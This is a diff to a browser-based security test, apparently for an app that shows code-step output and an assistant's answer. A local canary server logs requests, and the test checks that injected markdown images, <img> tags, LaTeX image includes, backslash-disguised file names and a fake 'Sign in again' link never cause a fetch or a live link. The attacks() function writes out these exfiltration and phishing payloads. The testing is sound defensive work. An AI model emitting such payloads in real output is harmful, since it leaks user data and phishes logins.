@@ -30,7 +30,7 @@ class Canary:
         hits = self.hits
 
         class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            def do_GET(self) -> None:  # the stdlib calls it so
                 hits.append(self.path)
                 self.send_response(200)
                 self.send_header("Content-Type", "image/png")
@@ -50,24 +50,27 @@ class Canary:
 def attacks(origin: str) -> tuple[str, str, str]:
     image = f"![chart](http://{origin}/image.png?data=Gizmo)"
     link = f"[Sign in again](http://{origin}/login)"
-    first = (
-        "import pandas as pd\n"
-        f"print({image!r})\n"
-        f"print({('<img src=http://' + origin + '/html.png>')!r})\n"
-        f"print('http://{origin}/bare.png www.{origin}/www.png')\n"
-        # File names: no '/' is possible, but browsers read '\\' as one in http URLs.
-        f"open({('output/![n](http:' + chr(92) * 2 + origin + chr(92) + 'name.png).csv')!r}, 'w')"
-        ".write('a\\n1\\n')\n"
-        f"df = pd.DataFrame({{'cell': [{image!r}, {link!r}], {image!r}: [1, 2]}})\n"
-        f"df.to_parquet({('output/' + link.replace('/', chr(92)) + '.parquet')!r})\n"
-        f"raise ValueError({(image + ' ' + link + ' $\\\\includegraphics{http://' + origin + '/tex.png}$')!r})\n"
-    )
+    back = chr(92)  # browsers read a backslash as a slash in http URLs; names cannot hold '/'
+    file_name = "output/![n](http:" + back * 2 + origin + back + "name.png).csv"
+    table_name = "output/" + link.replace("/", back) + ".parquet"
+    tex = "$" + back + "includegraphics{http://" + origin + "/tex.png}$"
+    lines = [
+        "import pandas as pd",
+        f"print({image!r})",
+        f"print({'<img src=http://' + origin + '/html.png>'!r})",
+        f"print({'http://' + origin + '/bare.png www.' + origin + '/www.png'!r})",
+        f"open({file_name!r}, 'w').write('a,b' + chr(10) + '1,2' + chr(10))",
+        f"df = pd.DataFrame({{'cell': [{image!r}, {link!r}], {image!r}: [1, 2]}})",
+        f"df.to_parquet({table_name!r})",
+        f"raise ValueError({image + ' ' + link + ' ' + tex!r})",
+    ]
+    first = "\n".join(lines) + "\n"
     # The kernel's own log line (stderr of the process) is quoted when the process dies.
     second = ("import os\n"
               f"os.write(2, {(image + ' ' + link + chr(10)).encode()!r})\n"
               "os._exit(3)\n")
     answer = (f"Done. {image} {link} <img src='http://{origin}/answer-html.png'> "
-              f"$\\includegraphics{{http://{origin}/answer-tex.png}}$ http://{origin}/answer-bare")
+              + tex + f" http://{origin}/answer-bare")
     return first, second, answer
 
 
@@ -101,7 +104,8 @@ def test_markdown_from_a_step_never_makes_the_browser_fetch_its_url(page, tmp_pa
             for expander in page.locator('[data-testid="stExpander"] summary').all():
                 expander.click()  # the error details and printed output, opened
             page.wait_for_timeout(1_500)
-            text = page.locator('[data-testid="stMain"]').inner_text()
+            # Bare URLs are shown with a zero-width space that keeps them from being links.
+            text = page.locator("body").inner_text().replace("\u200b", "")
     finally:
         canary.close()
     to_attacker = [u for u in requested if canary.origin in u]
@@ -110,4 +114,6 @@ def test_markdown_from_a_step_never_makes_the_browser_fetch_its_url(page, tmp_pa
     assert f"![chart](http://{canary.origin}/image.png?data=Gizmo)" in text
     assert "Sign in again" in text
     assert page.locator(f'img[src*="{canary.origin}"]').count() == 0
-    assert page.locator(f'a[href*="{canary.origin}"]').count() == 0
+    links = page.locator(f'a[href*="{canary.origin}"]')
+    assert links.count() == 0, [links.nth(i).evaluate("e => e.parentElement.parentElement.outerHTML")
+                                for i in range(links.count())]
